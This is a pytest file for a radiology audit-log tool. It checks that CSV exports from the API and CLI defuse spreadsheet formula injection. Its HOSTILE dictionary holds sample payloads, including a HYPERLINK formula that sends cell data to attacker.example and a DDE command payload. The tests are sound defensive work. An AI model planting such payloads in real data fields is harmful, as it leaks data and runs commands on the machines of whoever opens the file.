"""Every CSV of the audit log is safe to open in a spreadsheet: the API's ``/v1/export.csv`` (an attachment named
``radtrace-audit.csv``) and ``radtrace audit query --format csv``, as the console's export already was.

Accession numbers, patient IDs and AE titles come from peers, user names from whoever created the account, model
versions from the model's configuration: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR runs as a
formula in Excel and LibreOffice (``=HYPERLINK(...)`` sends the row to another host when clicked). Before, the API
and the CLI wrote such cells as they are; now they carry a leading apostrophe, as the console's export does.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from radtrace.audit.api import create_api
from radtrace.audit.events import Actor, AuditEvent, EventType
from radtrace.audit.presentation import CSV_COLUMNS
from radtrace.audit.recorder import AuditRecorder
from radtrace.audit.tokens import create_token
from radtrace.cli import app
from radtrace.store.engine import Store

HOSTILE = {
    "accession": '=HYPERLINK("http://attacker.example/?leak="&B2,"open")',
    "patient_id": "+cmd|' /C calc'!A0",
    "model_version": "-2+3",
    "actor_user": "@SUM(1+1)",
    "actor_ae": "\tTAB_AE",
}


def _record(store: Store) -> None:
    actor = Actor(user=HOSTILE["actor_user"], ae_title=HOSTILE["actor_ae"])
    AuditRecorder(store).record(
        AuditEvent(EventType.INFERENCE_COMPLETED, actor, study_uid="1.2.826.0.1.3680043.10.1017.4242",
                   accession=HOSTILE["accession"], patient_id=HOSTILE["patient_id"], model_name="NV-Reason-CXR-3B",
                   model_version=HOSTILE["model_version"], payload={"reason": "=1+1"})
    )  # fmt: skip


def _hostile_row(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    (row,) = [row for row in rows if row["event_type"] == EventType.INFERENCE_COMPLETED.value]
    return row


def _assert_defused(row: dict[str, str]) -> None:
    for column, value in HOSTILE.items():
        assert row[column] == f"'{value}", column  # before: the formula itself
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_the_api_export_defuses_formulas(store: Store) -> None:
    _record(store)
    admin = create_token(store, "audit.lead", "admin", Actor(user="root"))
    with TestClient(create_api(store)) as client:
        response = client.get("/v1/export.csv", headers={"Authorization": f"Bearer {admin.secret}"})
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    _assert_defused(_hostile_row(response.text))


def test_the_cli_query_csv_defuses_formulas(store: Store, tmp_path: Path) -> None:
    _record(store)
    env = {"RADTRACE_DATA_DIR": str(tmp_path / "var"),
           "RADTRACE_STORE__URL": store.engine.url.render_as_string(hide_password=False)}  # fmt: skip
    result = CliRunner().invoke(app, ["audit", "query", "--event-type", "inference_completed", "--format", "csv"],
                                env=env)  # fmt: skip
    assert result.exit_code == 0, result.output
    _assert_defused(_hostile_row(result.stdout))
